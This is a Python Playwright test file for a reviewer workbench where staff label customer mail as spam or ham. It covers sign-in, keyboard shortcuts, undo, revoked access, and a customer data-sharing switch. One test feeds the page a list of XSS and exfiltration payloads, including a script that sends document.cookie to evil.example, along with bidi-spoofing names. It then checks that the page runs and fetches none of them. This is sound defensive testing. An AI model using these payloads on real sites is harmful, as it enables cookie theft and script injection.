"""The pages in Debian's chromium: signing in, the switch, one key per item, refusals on the screen, nothing fetched."""

from __future__ import annotations

import hashlib
from collections.abc import Sequence
from typing import Any
from urllib.parse import urlsplit

import pyarrow as pa
import pytest
from playwright.sync_api import Page, expect

from readingroom.access.grants import revoke_grant
from readingroom.bootstrap import open_house
from readingroom.copies import staging
from readingroom.copies.part_names import ROW, draft_part, seal_context
from readingroom.copies.records import list_copies
from readingroom.copies.seal import write_part
from readingroom.copies.tables import PartKind
from readingroom.core.category import Category
from readingroom.core.ids import ItemId, PlaceName, TenantName, new_id
from readingroom.engagement import optin
from readingroom.engagement.tenants import add_tenant
from readingroom.keys.roles import Role
from readingroom.review.flag import list_flags
from readingroom.review.labels import list_labels

pytestmark = pytest.mark.browser
Room = Any  # conftest's; test folders are no packages
Visit = Any
HARBOR, US = TenantName("harbor"), PlaceName("us")


def bench(room: Room, visit: Visit, name: str, tenant: TenantName = HARBOR) -> tuple[Any, Any]:
    """Somebody at the workbench with a grant and the first item on the screen."""
    grant = room.grant(name, tenant)
    visitor = visit(name)
    visitor.page.goto(f"/work/mail/{grant.id}")
    expect(visitor.page.locator("#frames iframe:not([hidden])")).to_have_count(1)
    return visitor, grant


def item_of(page: Page) -> str:
    return page.locator("body").get_attribute("data-item") or ""


def press(page: Page, key: str) -> str:
    """Press a key and wait for the next item; its id."""
    before = item_of(page)
    page.keyboard.press(key)
    expect(page.locator("body")).not_to_have_attribute("data-item", before)
    return item_of(page)


def answers(room: Room, name: str, tenant: TenantName = HARBOR) -> dict[str, str]:
    actor = room.person(name).actor
    return {label.item: label.answer.value for label in list_labels(room.web, tenant) if label.actor == actor}


def test_a_visitor_signs_in_and_out_by_the_pages(room: Room, visit: Visit) -> None:
    visitor = visit()
    page = visitor.page
    page.goto(room.link("harbor"))
    page.get_by_role("button", name="Sign in").click()
    expect(page.get_by_role("heading", name="harbor")).to_be_visible()
    assert page.evaluate("document.cookie") == ""  # out of a script's reach
    page.get_by_role("button", name="Sign out").click()
    expect(page.get_by_role("heading", name="Sign in")).to_be_visible()
    page.goto("/portal")
    expect(page.get_by_role("heading", name="Sign in")).to_be_visible()
    assert visitor.complaints == []


def test_one_key_labels_and_shows_the_next_without_a_reload(room: Room, visit: Visit) -> None:
    visitor, _ = bench(room, visit, "Ada")
    page = visitor.page
    visited: list[str] = []
    page.on("framenavigated", lambda frame: visited.append(frame.url) if frame == page.main_frame else None)
    seen = [item_of(page)]
    seen += [press(page, key) for key in "snu"]
    assert len(set(seen)) == 4
    assert visited == []
    page.wait_for_load_state("networkidle")
    said = answers(room, "Ada")
    assert [said[item] for item in seen[:3]] == ["spam", "ham", "unsure"]
    assert seen[3] not in said
    # every item on the screen or fetched ahead is in the customer's log
    fetched = [url for url in visitor.requests if "/work/frame/" in url]
    actor = room.person("Ada").actor
    assert len([event for event in room.events("item.viewed") if event["actor"] == actor]) == len(fetched) == 6
    assert visitor.complaints == []


def test_fast_keys_label_every_item_once(room: Room, visit: Visit) -> None:
    """An item labelled a moment ago, its label still on the way, is not handed out again."""
    visitor, _ = bench(room, visit, "Cora")
    seen = [item_of(visitor.page)]
    seen += [press(visitor.page, "sn"[at % 2]) for at in range(25)]
    visitor.page.wait_for_load_state("networkidle")
    assert len(set(seen)) == len(seen)
    assert set(seen[:-1]) <= set(answers(room, "Cora"))
    assert visitor.complaints == []


def test_undo_brings_the_last_item_back_to_be_decided_again(room: Room, visit: Visit) -> None:
    visitor, _ = bench(room, visit, "Ada")
    page = visitor.page
    first = item_of(page)
    second = press(page, "s")
    assert press(page, "z") == first
    expect(page.locator("#status")).to_have_text("Undone; decide again.")
    assert first not in answers(room, "Ada")
    assert press(page, "n") == second
    page.wait_for_load_state("networkidle")
    assert answers(room, "Ada")[first] == "ham"
    assert visitor.complaints == []


def test_p_withholds_the_item_and_takes_it_off_the_page(room: Room, visit: Visit) -> None:
    visitor, _ = bench(room, visit, "Ada")
    page = visitor.page
    item = item_of(page)
    press(page, "p")
    page.wait_for_load_state("networkidle")
    assert item in [flag.item for flag in list_flags(room.web)]
    assert page.locator(f'iframe[src="/work/frame/{item}"]').count() == 0
    page.keyboard.press("z")
    expect(page.locator("#status")).to_have_text("Nothing to undo.")


def test_keys_work_while_the_mail_has_the_focus_and_can_be_turned_off(room: Room, visit: Visit) -> None:
    visitor, _ = bench(room, visit, "Ada")
    page = visitor.page
    page.locator("#frames iframe:not([hidden])").click(position={"x": 30, "y": 30})
    press(page, "s")
    page.get_by_label("One-key shortcuts").uncheck()  # WCAG 2.1.4
    item = item_of(page)
    page.keyboard.press("n")
    page.wait_for_load_state("networkidle")
    assert item_of(page) == item
    page.get_by_role("button", name="Not spam").press("Enter")
    expect(page.locator("body")).not_to_have_attribute("data-item", item)


def test_a_revoked_grant_clears_the_screen_at_the_next_key(room: Room, visit: Visit) -> None:
    visitor, grant = bench(room, visit, "Ben")
    page = visitor.page
    page.wait_for_load_state("networkidle")
    revoke_grant(room.web, grant.id)
    page.keyboard.press("s")
    expect(page.get_by_role("alert")).to_be_visible()
    expect(page.locator("#frames iframe")).to_have_count(0)  # nothing of a customer's stays
    expect(page.locator("#work")).to_be_hidden()
    expect(page.locator("#subject")).to_be_empty()


def test_the_customers_switch_stops_a_reviewer_and_the_pages_say_so(room: Room, visit: Visit) -> None:
    reviewer, _ = bench(room, visit, "Ada", TenantName("linden"))
    reviewer.page.wait_for_load_state("networkidle")
    customer = visit("linden").page
    customer.goto("/portal")
    switch = customer.get_by_role("switch", name="Data sharing")
    expect(switch).to_have_attribute("aria-checked", "true")
    customer.once("dialog", lambda dialog: dialog.accept())
    switch.click()
    expect(customer.get_by_role("status")).to_contain_text("Nobody can view your data")
    expect(customer.get_by_role("switch", name="Data sharing")).to_have_attribute("aria-checked", "false")
    expect(customer.get_by_text("Ended", exact=True)).to_be_visible()
    reviewer.page.keyboard.press("s")
    expect(reviewer.page.get_by_role("alert")).to_contain_text("engagement")
    expect(reviewer.page.locator("#frames iframe")).to_have_count(0)


# active content: a copy sealed as if the engine had let everything through


def _seal_hostile(room: Room, bodies: Sequence[str], subjects: Sequence[str]) -> TenantName:
    name = TenantName("hostile")
    add_tenant(room.web, name, geo="US", connection={"synapse": "nowhere"}, actor="operator")
    optin.opt_in(room.web, name, "admin@hostile.example")
    house = open_house(room.root, Role.COPY)
    copy = staging.begin(house, US, name, category=Category.MARKETING, actor="copy")
    house.place(US).keyring.create_copy(copy.id, name, Category.MARKETING.retention_class, copy.day)
    draft = draft_part(copy, PartKind.DATA, 1)
    columns = {"msdyncrm_subject": list(subjects), "msdyncrm_emailbody": list(bodies)}
    table = pa.table({ROW: pa.array(range(len(bodies)), pa.int64()), **columns})
    staging.register_parts(house, copy, [draft])
    key = house.place(US).keyring.new_part_key(copy.id, draft.key)
    data = write_part(table, key, seal_context(copy, draft))
    house.place(US).store.put(draft.path, data)
    written = staging.Written(draft, "mail", len(bodies), len(data), hashlib.sha256(data).hexdigest())
    base = {"copy": copy.id, "tenant": name, "part": draft.name, "kind": "mail", "table_name": "mail"}
    rest = {"withheld": "", "twin": b"", "record": b""}
    items = [{"id": ItemId(new_id("item")), "row": row, **base, **rest} for row in range(len(bodies))]
    staging.record_parts(house, copy, [written], items=items)
    staging.seal(house, copy, {}, withheld=frozenset())
    for database in (house.db, *(place.db for place in house.places.values())):
        database.close()
    assert list_copies(room.web, name)
    return name


MARK = "<p>END-OF-MAIL</p>"
PAYLOADS = (
    '<html><body><script>fetch("https://evil.example/?c="+document.cookie)</script>Hi</body></html>',
    '<img src=x onerror="alert(1)">',
    '<iframe src="https://evil.example/frame"></iframe>',
    "<svg/onload=alert(document.domain)>",
    '<a href="javascript:alert(1)">open</a>',
    '<body onload=alert(1)><object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    (
        '<style>@import "https://evil.example/x.css";body{background:url(https://evil.example/p.gif)}</style>'
        '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">'
    ),
    (
        "</textarea></script><math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'
    ),
    # and some of our own
    '<p style="background:url(https://evil.example/b.gif);position:fixed;inset:0">over everything</p>',
    '<link rel="stylesheet" href="https://evil.example/y.css"><img src="https://evil.example/pixel.gif">',
    '<form action="https://evil.example/"><input name="x"><button>Send</button></form>',
    '<a href="https://evil.example/ping" ping="https://evil.example/p" target="_top">visit</a>',
)
NAMES = (
    "\u202eculM\u202c Moreau",
    "\u2067isolated\u2069",
    "<script>alert(1)</script> Berger",
    '"><img src=x onerror=alert(1)>',
)


def test_nothing_in_a_mail_runs_or_is_fetched(room: Room, visit: Visit) -> None:
    subjects = [NAMES[at % len(NAMES)] for at in range(len(PAYLOADS))]
    bodies = [f"{body}{MARK}" if "<!--" not in body else body for body in PAYLOADS]
    bodies[1] += f"<p>{NAMES[0]} neighbour</p>"
    tenant = _seal_hostile(room, bodies, subjects)
    visitor, _ = bench(room, visit, "Cora", tenant)
    page = visitor.page
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    shown = []
    for _ in PAYLOADS:
        frame = page.frame_locator("#frames iframe:not([hidden])")
        shown.append((frame.locator("body").inner_html(), frame.locator("body").inner_text()))
        for link in frame.locator("a").all():
            link.click(force=True)
        assert not set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069") & set(shown[-1][1])
        assert not set("\u202e\u2067") & set(page.locator("#subject").inner_text())
        assert page.locator("#subject *").count() == 0  # text, not markup
        before = item_of(page)
        page.keyboard.press("s")
        expect(page.locator("body")).not_to_have_attribute("data-item", before) if len(shown) < len(PAYLOADS) else None
    expect(page.locator("#finished")).to_be_visible()
    everything = "".join(html for html, _ in shown).lower()
    for banned in (
        "<script",
        "<iframe",
        "<object",
        "<form",
        "<meta",
        "<base",
        "<link",
        "<svg",
        "<img",
        "href",
        "onerror",
    ):
        assert banned not in everything.replace("&lt;", ""), banned
    assert "url(" not in everything
    assert sum("END-OF-MAIL" in text for _, text in shown) >= len(PAYLOADS) - 2  # the mails themselves are there
    assert dialogs == []
    assert page.url.startswith(room.base)
    assert {urlsplit(url).netloc for url in visitor.requests} == {urlsplit(room.base).netloc}
    assert visitor.complaints == []
    assert list(answers(room, "Cora", tenant).values()) == ["spam"] * len(PAYLOADS)
